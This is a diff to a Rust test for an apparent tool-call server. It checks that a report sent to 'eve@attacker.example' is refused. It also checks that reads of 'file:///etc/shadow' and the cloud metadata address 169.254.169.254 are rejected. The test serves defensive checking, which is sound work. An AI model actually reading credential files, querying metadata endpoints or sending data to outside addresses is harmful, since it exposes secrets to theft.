@@ -141,6 +141,12 @@ fn calls_pass_or_are_answered_with_the_reason() {
     assert_eq!(client.send(&request.to_string())["id"], 77.0);
     let (text, error) = client.call("send_report", json!({"to": "eve@attacker.example", "text": "the report"}));
     assert!(error && text.contains("eve@attacker.example"), "{text}");
+    // a resource that is a file or a page is judged as one
+    for uri in ["file:///etc/shadow", "FILE:///etc/shadow", "http://169.254.169.254/latest/meta-data"] {
+        let answer = client.ask("resources/read", json!({"uri": uri}));
+        let says = answer["error"]["message"].as_str().unwrap_or_default();
+        assert!(says.contains("shadow") || says.contains("169.254"), "{uri}: {answer}");
+    }
     client.end();
     let seen = calls(folder.path());
     assert!(!seen.contains("delete_file") && !seen.contains("send_report"), "{seen}");
